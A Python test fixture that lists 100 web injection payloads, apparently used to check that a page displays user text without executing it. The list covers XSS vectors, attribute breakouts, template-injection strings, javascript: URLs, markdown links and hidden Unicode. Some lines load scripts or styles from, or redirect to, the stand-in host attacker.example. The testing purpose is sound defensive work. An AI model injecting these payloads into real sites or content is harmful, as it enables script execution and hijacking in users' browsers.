"""A hundred things that an article or a question can hold to break a page. None may do more than be read."""

from __future__ import annotations

import unicodedata

_SCRIPTS = [
    "<script>window.broken=1</script>",
    "<SCRIPT SRC=//attacker.example/x.js></SCRIPT>",
    "<scr<script>ipt>window.broken=1</scr</script>ipt>",
    "</script><script>window.broken=1</script>",
    "<script\x20type='text/javascript'>window.broken=1;</script>",
    "<script>/*</script><script>*/window.broken=1</script>",
    "<img src=x onerror=window.broken=1>",
    '<img src=x onerror="window.broken=1">',
    "<img/src/onerror=window.broken=1>",
    '<IMG SRC="jav&#x09;ascript:window.broken=1;">',
    "<svg onload=window.broken=1>",
    "<svg><script>window.broken=1</script></svg>",
    "<svg><animate onbegin=window.broken=1 attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:window.broken=1"><text x=0 y=20>x</text></a></svg>',
    "<math><mtext></mtext><script>window.broken=1</script></math>",
    "<body onload=window.broken=1>",
    '<iframe src="javascript:parent.broken=1"></iframe>',
    '<iframe srcdoc="<script>parent.broken=1</script>"></iframe>',
    '<object data="javascript:window.broken=1"></object>',
    '<embed src="javascript:window.broken=1">',
    "<video><source onerror=window.broken=1></video>",
    "<audio src=x onerror=window.broken=1></audio>",
    "<details open ontoggle=window.broken=1>x</details>",
    "<input autofocus onfocus=window.broken=1>",
    "<select autofocus onfocus=window.broken=1></select>",
    "<textarea autofocus onfocus=window.broken=1></textarea>",
    "<marquee onstart=window.broken=1>x</marquee>",
    '<a href="javascript:window.broken=1">press</a>',
    "<a href=javascript&colon;window.broken=1>press</a>",
    '<form action="javascript:window.broken=1"><button>go</button></form>',
    '<button formaction="javascript:window.broken=1">go</button>',
    '<meta http-equiv=refresh content="0;url=https://attacker.example">',
    '<base href="https://attacker.example/">',
    '<link rel=stylesheet href="https://attacker.example/x.css">',
    "<style>*{display:none!important}</style>",
    "<style>@import 'https://attacker.example/x.css';</style>",
    '<div style="position:fixed;inset:0;background:red">x</div>',
    '<div style="background:url(https://attacker.example/x)">x</div>',
    "<template><script>window.broken=1</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=window.broken=1>">',
    "<xmp><script>window.broken=1</script></xmp>",
    '<!--<img src="--><img src=x onerror=window.broken=1//">',
    "<![CDATA[<img src=x onerror=window.broken=1>]]>",
    '<?xml version="1.0"?><x onload=window.broken=1>',
]
_BREAKOUTS = [
    '"><img src=x onerror=window.broken=1>',
    "'><img src=x onerror=window.broken=1>",
    '" onmouseover="window.broken=1',
    "' onfocus='window.broken=1' autofocus='",
    "` onerror=window.broken=1 `",
    '" autofocus onfocus=window.broken=1 x="',
    "</mark></p></div><img src=x onerror=window.broken=1>",
    "</title><img src=x onerror=window.broken=1>",
    "</textarea><img src=x onerror=window.broken=1>",
    "</style><img src=x onerror=window.broken=1>",
    "</svg><img src=x onerror=window.broken=1>",
    '</button><button data-ask="x">press</button>',
    "</details><details open ontoggle=window.broken=1>",
    "--><img src=x onerror=window.broken=1>",
    "]]><img src=x onerror=window.broken=1>",
    "&lt;img src=x onerror=window.broken=1&gt;",
    "&#60;script&#62;window.broken=1&#60;/script&#62;",
    "&amp;lt;script&amp;gt;",
    "%3Cscript%3Ewindow.broken=1%3C/script%3E",
    "\\x3cscript\\x3ewindow.broken=1\\x3c/script\\x3e",
    "\\u003cscript\\u003ewindow.broken=1",
    "＜script＞window.broken=1＜/script＞",
]
_TEMPLATES = [
    "${window.broken=1}",
    "`${window.broken=1}`",
    "{{constructor.constructor('window.broken=1')()}}",
    "{{#with this}}{{lookup this 'constructor'}}{{/with}}",
    "{{{value}}}",
    "{% raw %}{{ 7*7 }}{% endraw %}",
    "<%= 7*7 %>",
    "#{7*7}",
    "@children",
    "{0.__class__}",
    "%s%n%x",
]
_ADDRESSES = [
    "javascript:window.broken=1",
    "JaVaScRiPt:window.broken=1",
    "java\tscript:window.broken=1",
    "\x01javascript:window.broken=1",
    "data:text/html,<script>window.broken=1</script>",
    "vbscript:msgbox(1)",
    'https://courier.example/"onmouseover="window.broken=1',
    "//attacker.example/x",
]
_MARKDOWN = [
    "[press](javascript:window.broken=1)",
    "![x](https://attacker.example/x.png)",
    "**bold** _it_ `code` # heading",
    "```html\n<script>window.broken=1</script>\n```",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "$$\\int_0^1 x\\,dx$$",
    "$\\href{javascript:window.broken=1}{x}$",
    "\\(\\require{html}\\href{javascript:window.broken=1}{x}\\)",
    "[^1]: note",
]
_HIDDEN = [
    "abc\u202edef\u202c",
    "\u2067right to left\u2069",
    "zero\u200bwidth\u2060joined\ufeff",
    "so\u00adft",
    "\u0000null\u0008back",
    "\x1b[31mred\x1b[0m\x07",
]

PAYLOADS = [
    # a payload that hides behind a name would be a test that nobody can read: every one stands here as it is
    *_SCRIPTS, *_BREAKOUTS, *_TEMPLATES, *_ADDRESSES, *_MARKDOWN, *_HIDDEN,
]  # fmt: skip

assert len(PAYLOADS) == len(set(PAYLOADS)) == 100, len(PAYLOADS)
assert unicodedata.bidirectional("\u202e") == "RLO"
